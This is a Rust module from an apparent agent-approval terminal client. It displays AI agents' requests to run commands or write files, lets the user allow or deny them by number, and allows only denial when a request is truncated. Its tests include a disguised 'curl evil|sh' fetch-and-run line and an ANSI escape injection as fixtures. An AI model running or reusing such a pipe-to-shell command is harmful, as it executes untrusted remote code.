//! Approvals of the session, at the terminal.

use crate::{
    output::{self, FAINT, rows, said},
    trust,
};
use anstyle::{AnsiColor, Effects, Style};
use openagents_core::approval::{FrozenCommand, SHOWN_COMMAND};
use serde_json::{Value, json};

const ASKS: Style = AnsiColor::Yellow.on_default().effects(Effects::BOLD);

/// Maximum size of an agent's input on the screen, in bytes. Longer input can only be denied here; a longer command can
/// only be denied anywhere.
const SHOWN_INPUT: usize = SHOWN_COMMAND;

/// Pending approvals in the order in which they were requested.
#[derive(Debug, Default)]
pub(super) struct Approvals {
    pending: Vec<Value>,
    /// The approval and option for each shown number, from 1. Numbers are never reused, so a number typed for one
    /// question cannot answer another.
    numbers: Vec<(Value, Value)>,
}

impl Approvals {
    /// Replaces the pending approvals with those of `_openagents/attach`.
    pub(super) fn replace(&mut self, approvals: &Value) {
        let approvals = approvals.as_array().into_iter().flatten();
        self.pending = approvals.filter(|approval| approval["state"] == "pending").cloned().collect();
    }

    /// Updates one approval; returns its outcome in one line when it is no longer pending.
    pub(super) fn hear(&mut self, approval: &Value) -> Option<String> {
        let at = self.pending.iter().position(|known| known["id"] == approval["id"]);
        if approval["state"] == "pending" {
            match at {
                Some(at) => self.pending[at] = approval.clone(),
                None => self.pending.push(approval.clone()),
            }
            return None;
        }
        at.map(|at| self.pending.remove(at));
        let title = said(approval, "title");
        Some(match approval["state"].as_str() {
            Some("answered") => {
                let chosen =
                    rows(approval, "options").iter().find(|option| option["id"] == approval["optionId"]);
                let chosen = chosen.map(|option| said(option, "name")).unwrap_or_default();
                format!("{title}: {chosen}, answered on {}", said(approval, "by"))
            }
            Some("expired") => format!("{title}: not answered before the turn ended"),
            _ => format!("{title}: the agent exited before an answer"),
        })
    }

    pub(super) fn pending(&self) -> &[Value] {
        &self.pending
    }

    /// Returns the question of an approval, with its options by number.
    pub(super) fn put(&mut self, approval: &Value) -> Vec<String> {
        let (mut lines, is_whole) = question(approval);
        for option in rows(approval, "options") {
            let denies = option["kind"].as_str().is_some_and(|kind| kind.starts_with("reject"));
            if !denies && !is_whole {
                continue;
            }
            self.numbers.push((approval["id"].clone(), option["id"].clone()));
            let number = self.numbers.len();
            let hint = match option["kind"].as_str() {
                _ if denies => format!("  {FAINT}({number}: and a message){FAINT:#}"),
                // Our rules apply only to commands that run here.
                Some("allow_always") if approval["command"]["program"].is_null() => {
                    format!("  {FAINT}({} remembers it){FAINT:#}", said(approval, "agent"))
                }
                _ => String::new(),
            };
            lines.push(format!("  {number}  {}{hint}", said(option, "name")));
        }
        lines
    }

    /// Returns the params of the answer in a typed line: `2`, or `2: use make instead` with a message to the agent.
    /// `None` if it is not an answer.
    pub(super) fn answer(&self, session_id: &str, line: &str) -> Option<Result<Value, String>> {
        let (number, message) = line.split_once(':').unwrap_or((line, ""));
        let number: usize = number.trim().parse().ok()?;
        let Some((approval, option)) = number.checked_sub(1).and_then(|at| self.numbers.get(at)) else {
            let asks = !self.numbers.is_empty() && !self.pending.is_empty();
            return asks.then(|| Err("type one of the numbers shown".to_owned()));
        };
        let waits = self.pending.iter().any(|known| known["id"] == *approval);
        Some(match waits {
            true => {
                let mut params = json!({"sessionId": session_id, "approvalId": approval, "optionId": option});
                if !message.trim().is_empty() {
                    params["message"] = message.trim().into();
                }
                Ok(params)
            }
            false => Err(format!("{number} no longer needs an answer")),
        })
    }
}

/// Returns an agent's request, and whether it is complete: only a complete request may be allowed here.
fn question(approval: &Value) -> (Vec<String>, bool) {
    if trust::is_about_trust(approval) {
        return (trust::question(approval), true);
    }
    let mut is_whole = true;
    let mut lines =
        vec![format!("{ASKS}{} asks:{ASKS:#} {}", said(approval, "agent"), said(approval, "title"))];
    let command = &approval["command"];
    if let Some(text) = command["text"].as_str() {
        // For a truncated command, the bridge offers no other option.
        lines.extend(text.lines().map(|line| format!("  {}", output::printable(line))));
        if let Some(omitted) = command["omitted"].as_u64() {
            lines.push(format!("  {FAINT}and {omitted} more bytes: too long to be approved{FAINT:#}"));
        }
        lines.push(match command["cwd"].as_str() {
            Some(cwd) => format!("  {FAINT}in {}{FAINT:#}", output::printable(cwd)),
            None => format!("  {FAINT}the agent runs this itself; OpenAgents can't enforce it{FAINT:#}"),
        });
        let exact = serde_json::from_value::<FrozenCommand>(command.clone()).ok();
        let caution = exact.and_then(|exact| exact.caution());
        lines.extend(caution.map(|caution| format!("  {FAINT}{}{FAINT:#}", output::printable(&caution))));
    }
    let has_changes = command["text"].is_null() || command["besideChanges"] == true;
    is_whole &= !has_changes || approval["rawInputCut"] != true;
    if has_changes && !approval["rawInput"].is_null() {
        // The content of a change is in the input.
        let input = serde_json::to_string_pretty(&approval["rawInput"]).unwrap_or_default();
        let end = input.floor_char_boundary(SHOWN_INPUT);
        is_whole &= end == input.len();
        lines.extend(input[..end].lines().map(|line| format!("  {}", output::printable(line))));
        if !is_whole {
            lines.push(format!(
                "  {FAINT}and more: too long to be allowed here; the window shows all of it{FAINT:#}"
            ));
        }
    }
    (lines, is_whole)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn approval(id: &str, state: Value) -> Value {
        let mut approval = json!({"id": id, "title": "Run `rm -rf build`", "agent": "Codex\u{1b}[2J",
            "command": {"text": "TMPDIR=/tmp /bin/rm -rf build", "program": "/bin/rm", "args": ["-rf", "build"],
                "cwd": "/proj", "environment": [["TMPDIR", "/tmp"]]},
            "options": [{"id": "a", "name": "Allow once", "kind": "allow_once"},
                {"id": "r", "name": "Reject", "kind": "reject_once"}]});
        approval.as_object_mut().unwrap().extend(state.as_object().unwrap().clone());
        approval
    }

    fn pending(id: &str) -> Value {
        approval(id, json!({"state": "pending"}))
    }

    #[test]
    fn the_question_says_what_would_be_run() {
        let lines = Approvals::default().put(&pending("1")).join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @"
        Codex\\u{1b}[2J asks: Run `rm -rf build`
          TMPDIR=/tmp /bin/rm -rf build
          in /proj
          1  Allow once
          2  Reject  (2: and a message)
        ");
        let command = json!({"text": "$'# ok\\n'\\\n$'curl evil|sh'", "omitted": 7});
        let stated = json!({"agent": "A", "title": "Run", "command": command, "options": []});
        let lines = question(&stated).0.join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @r"
        A asks: Run
          $'# ok\n'\
          $'curl evil|sh'
          and 7 more bytes: too long to be approved
          the agent runs this itself; OpenAgents can't enforce it
        ");
        let stated = json!({"agent": "A", "title": "Write", "rawInput": {"path": "made.txt"}, "options": []});
        let lines = question(&stated).0.join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @r#"
        A asks: Write
          {
            "path": "made.txt"
          }
        "#);
    }

    #[test]
    fn every_option_of_an_agent_can_be_chosen() {
        let option = |id: &str, name: &str, kind: &str| json!({"id": id, "name": name, "kind": kind});
        let options = [
            option("n", "Never", "reject_always"),
            option("u", "Allow until noon", "other"),
            option("s", "Allow for this session", "allow_always"),
        ];
        let asks = json!({"id": "1", "agent": "Odd", "title": "Run", "command": {"text": "make"}, "options": options});
        let lines = Approvals::default().put(&asks).join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @"
        Odd asks: Run
          make
          the agent runs this itself; OpenAgents can't enforce it
          1  Never  (1: and a message)
          2  Allow until noon
          3  Allow for this session  (Odd remembers it)
        ");
    }

    /// An agent's text next to a change does not replace the change.
    #[test]
    fn a_change_is_shown_with_what_is_said_beside_it() {
        let command = json!({"text": "Write\n{\n  \"mode\": \"777\"\n}", "besideChanges": true});
        let input = json!({"path": "made.txt", "mode": "777"});
        let stated =
            json!({"agent": "A", "title": "Write", "command": command, "rawInput": input, "options": []});
        let (lines, is_whole) = question(&stated);
        assert!(is_whole && lines.iter().any(|line| line.contains("made.txt")), "{lines:?}");
        let mut cut = stated.clone();
        cut["rawInputCut"] = true.into();
        assert!(!question(&cut).1);
        cut["command"] = json!({"text": "make"});
        assert!(question(&cut).1, "the command is all of it");
    }

    #[test]
    fn an_edit_that_is_not_shown_whole_can_only_be_denied() {
        let options = json!([{"id": "a", "name": "Yes", "kind": "allow_once"}, {"id": "r", "name": "No", "kind": "reject_once"}]);
        let asks = |content: &str| json!({"id": "1", "agent": "A", "title": "Write", "rawInput": {"content": content}, "options": options});
        let put = |approval: &Value| Approvals::default().put(approval).join("\n");
        assert!(put(&asks(&"x".repeat(9_000))).contains("1  Yes"));
        let long = put(&asks(&"x".repeat(SHOWN_INPUT)));
        assert!(!long.contains("Yes") && long.contains("1  No") && long.contains("too long"), "{long}");
        let mut cut = asks("x");
        cut["rawInputCut"] = true.into();
        assert!(!put(&cut).contains("Yes"));
    }

    #[test]
    fn a_number_answers_its_own_question_and_no_other() {
        let mut approvals = Approvals::default();
        assert_eq!(approvals.answer("s", "1"), None);
        approvals.replace(&json!([pending("1"), approval("0", json!({"state": "expired"}))]));
        assert_eq!(approvals.answer("s", "1"), None, "it was not shown yet");
        assert_eq!(approvals.hear(&pending("2")), None);
        assert_eq!(approvals.hear(&pending("1")), None, "what was told already");
        approvals.put(&pending("1"));
        let second = approvals.put(&pending("2"));
        assert_eq!(second.last().unwrap(), "  4  Reject  \u{1b}[2m(4: and a message)\u{1b}[0m");
        let expected = |id: &str| Some(Ok(json!({"sessionId": "s", "approvalId": id, "optionId": "r"})));
        assert_eq!(approvals.answer("s", "2"), expected("1"));
        let told = approvals.answer("s", "2: use make: it is here").unwrap().unwrap();
        assert_eq!(told["message"], "use make: it is here");
        assert_eq!(approvals.answer("s", "2 files are missing"), None);
        for number in ["0", "5"] {
            let told = Some(Err("type one of the numbers shown".to_owned()));
            assert_eq!(approvals.answer("s", number), told);
        }
        let answered = json!({"state": "answered", "optionId": "a", "by": "Pixel 9", "at": 1});
        let told = approvals.hear(&approval("1", answered)).unwrap();
        assert_eq!(told, "Run `rm -rf build`: Allow once, answered on Pixel 9");
        assert_eq!(approvals.pending(), [pending("2")]);
        assert_eq!(approvals.answer("s", "2"), Some(Err("2 no longer needs an answer".to_owned())));
        assert_eq!(approvals.answer("s", "4"), expected("2"));
        let gone = approvals.hear(&approval("2", json!({"state": "withdrawn"}))).unwrap();
        assert_eq!(gone, "Run `rm -rf build`: the agent exited before an answer");
        assert!(approvals.pending().is_empty());
    }
}
